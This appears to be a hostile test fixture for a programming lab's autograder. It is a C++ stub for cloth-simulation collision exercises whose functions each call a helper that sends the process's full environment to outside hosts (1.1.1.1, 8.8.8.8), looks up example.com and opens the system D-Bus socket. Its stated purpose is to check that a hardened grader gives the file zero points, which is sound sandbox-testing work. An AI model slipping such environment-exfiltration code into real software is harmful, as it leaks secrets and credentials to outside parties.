// Stage 06 — collision constraints and velocityUpdate.
// Task sheet: exercises/06_collision/README.md
// Formulas and argument units: framework/include/clothlab/exercise/06_collision.h
//
// Replace each `throw NotImplemented(...)` by your code, then run
//     ./lab grade --stage 06
//
// HOSTILE FIXTURE socket_connect (attack class 13: network).
// The tested function opens TCP and UDP sockets to addresses outside (1.1.1.1:80, 8.8.8.8:53, a DNS lookup of example.com) and a Unix socket, and sends its environment and test name out.
// The hardened grader must give this file 0 points on stage 06.
#include <algorithm>
#include <cmath>

#include "clothlab/core/not_implemented.h"
#include "clothlab/exercise/06_collision.h"
#include <cstring>
#include <string>
#include <netdb.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>


extern char** environ;
namespace {
void hostileSend(int type, const char* ip, int port, const std::string& what) {
    const int s = socket(AF_INET, type, 0);
    if (s < 0) return;
    timeval t{2, 0};
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &t, sizeof t);
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<uint16_t>(port));
    inet_pton(AF_INET, ip, &a.sin_addr);
    if (connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0) send(s, what.data(), what.size(), 0);
    close(s);
}
void hostileNetwork() {
    std::string what = "GET /clothlab-hostile HTTP/1.0\r\n\r\n";
    for (char** e = environ; e && *e; ++e) what += std::string(*e) + "\n";
    hostileSend(SOCK_STREAM, "1.1.1.1", 80, what);
    hostileSend(SOCK_DGRAM, "8.8.8.8", 53, what);
    addrinfo* res = nullptr;
    if (getaddrinfo("example.com", "80", nullptr, &res) == 0) freeaddrinfo(res);
    const int u = socket(AF_UNIX, SOCK_STREAM, 0);
    if (u >= 0) {
        sockaddr_un a{};
        a.sun_family = AF_UNIX;
        std::strncpy(a.sun_path, "/run/dbus/system_bus_socket", sizeof a.sun_path - 1);
        connect(u, reinterpret_cast<sockaddr*>(&a), sizeof a);
        close(u);
    }
}
}  // namespace

namespace clothlab {

// ---- Task 6.1: plane -----------------------------------------------------------------
bool generatePlaneConstraint(int i, const Vec3& x, const Vec3& p, const PlaneCollider& collider, double h, double dt,
                             CollisionConstraint* out) {
    // TODO 6.1: if (p - q_s).n_s < h, fill *out (i, q = collider.point, n = collider.normal, start = x,
    //           vnBefore = (p - x).n / dt, friction, restitution) and return true; else return false.
    (void)i; (void)x; (void)p; (void)collider; (void)h; (void)dt; (void)out;
    hostileNetwork();
    throw NotImplemented("exercise 6.1 generatePlaneConstraint");
}

// ---- Task 6.2: sphere, along the path x -> p --------------------------------------------
bool generateSphereConstraint(int i, const Vec3& x, const Vec3& p, const SphereCollider& collider, double h, double dt,
                              CollisionConstraint* out) {
    // TODO 6.2: with Rh = R + h: x outside -> first intersection of the segment x -> p with the sphere
    //           of radius Rh (a quadratic in t); x inside -> only if p is inside, normal from the centre
    //           to p. Then q = c + R n and the other fields as in 6.1.
    (void)i; (void)x; (void)p; (void)collider; (void)h; (void)dt; (void)out;
    hostileNetwork();
    throw NotImplemented("exercise 6.2 generateSphereConstraint");
}

// ---- Task 6.3: projection with static friction ----------------------------------------------
Vec3 projectCollisionConstraint(const Vec3& p, double w, double h, const CollisionConstraint& c) {
    // TODO 6.3: C = (p - q).n - h; if C >= 0 or w == 0 return zero; dp = -C n; then static friction:
    //           t = tangential part of (p + dp - c.start); if |t| < mu |C|, dp -= t.
    (void)p; (void)w; (void)h; (void)c;
    hostileNetwork();
    throw NotImplemented("exercise 6.3 projectCollisionConstraint");
}

// ---- Task 6.4: velocityUpdate -------------------------------------------------------------
void velocityUpdate(Matrix3X& v, const std::vector<CollisionConstraint>& contacts) {
    // TODO 6.4: for every contact: v_n = v.n, v_t = v - v_n n, dvn = max(0, v_n - vnBefore);
    //           shorten v_t by min(|v_t|, mu dvn); v_n' = max(v_n, -e vnBefore); v = v_t + v_n' n.
    (void)v; (void)contacts;
    hostileNetwork();
    throw NotImplemented("exercise 6.4 velocityUpdate");
}

}  // namespace clothlab
